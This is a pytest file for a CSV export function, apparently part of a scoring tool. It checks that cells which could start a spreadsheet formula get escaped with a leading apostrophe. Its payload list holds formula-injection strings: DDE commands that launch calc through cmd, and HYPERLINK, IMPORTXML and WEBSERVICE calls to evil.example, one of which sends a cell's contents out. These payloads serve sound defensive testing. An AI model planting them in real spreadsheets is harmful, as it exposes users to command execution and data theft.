"""Exported CSV is safe in Excel and LibreOffice: no text cell can start a formula."""

from __future__ import annotations

import csv
from pathlib import Path

import pandas as pd
import pytest

from scoring.export import FORMULA_START, safe_cell, to_bytes, write_csv

PAYLOADS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+SUM(A1:A2)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    '=HYPERLINK("http://evil.example","click")',
    '=IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")',
    '=WEBSERVICE("http://evil.example")',
    "+1-1",
    "-1",
    "@cmd",
    " =1+1",
    '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
    "%0A=1+1",
    "|calc",
    "=2*3",
    "=A1",
    '+"text"',
    "-@SUM(1)",
    '="=1"',
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_hostile_cells_are_neutralised(payload: str) -> None:
    assert str(safe_cell(payload)).startswith("'")


def test_ordinary_text_and_numbers_are_untouched() -> None:
    assert safe_cell("Seoul summons envoy") == "Seoul summons envoy"
    assert safe_cell(-3.5) == -3.5


def test_round_trip_no_cell_starts_a_formula(tmp_path: Path) -> None:
    frame = pd.DataFrame(
        {"title": PAYLOADS, "source": PAYLOADS[::-1], "weight": range(len(PAYLOADS))}
    )
    path = write_csv(frame, tmp_path / "out.csv", bom=True)
    with path.open(encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.DictReader(fh))
    assert len(rows) == len(PAYLOADS)
    for row in rows:
        for column in ("title", "source"):
            assert not row[column].startswith(FORMULA_START)
    assert [int(r["weight"]) for r in rows] == list(range(len(PAYLOADS)))


def test_bom_option() -> None:
    frame = pd.DataFrame({"a": ["x"]})
    assert to_bytes(frame, bom=True).startswith(b"\xef\xbb\xbf")
    assert not to_bytes(frame).startswith(b"\xef\xbb\xbf")
